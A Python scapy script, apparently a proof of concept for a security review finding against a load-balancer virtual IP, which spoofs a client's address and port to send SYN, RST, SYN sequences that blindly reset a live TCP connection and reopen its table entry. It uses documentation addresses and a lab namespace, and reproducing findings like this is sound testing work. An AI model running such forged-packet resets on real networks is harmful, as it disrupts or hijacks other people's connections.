#!/usr/bin/env python3
"""The blind reset of review S1, against a live connection: knowing only
its 4-tuple, send a SYN with a chosen sequence number S, then a RST at
S + 1, then the SYN again (which would reopen a closed entry toward a newly
scheduled server). Repeated ROUNDS times, a few ms apart.

    blind_syn_rst.py --vip 192.0.2.100 --port 80 --cport 40123 [--rounds 3]

Run with Debian's /usr/bin/python3 (scapy), inside the client namespace
(the box cannot tell it from an attacker anywhere: the segments carry the
client's address and port). Prints `sent N` on success.
"""

import argparse
import random

from scapy.all import IP, TCP, conf, send


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--vip", required=True)
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--client", default="192.0.2.10")
    p.add_argument("--cport", type=int, required=True)
    p.add_argument("--rounds", type=int, default=3)
    a = p.parse_args()
    conf.verb = 0
    sent = 0
    for _ in range(a.rounds):
        s = random.randrange(2**32)
        base = IP(src=a.client, dst=a.vip) / TCP(sport=a.cport, dport=a.port)
        syn = base.copy()
        syn[TCP].flags = "S"
        syn[TCP].seq = s
        rst = base.copy()
        rst[TCP].flags = "R"
        rst[TCP].seq = (s + 1) % 2**32
        send([syn, rst, syn], inter=0.005)
        sent += 3
    print(f"sent {sent}", flush=True)


if __name__ == "__main__":
    main()
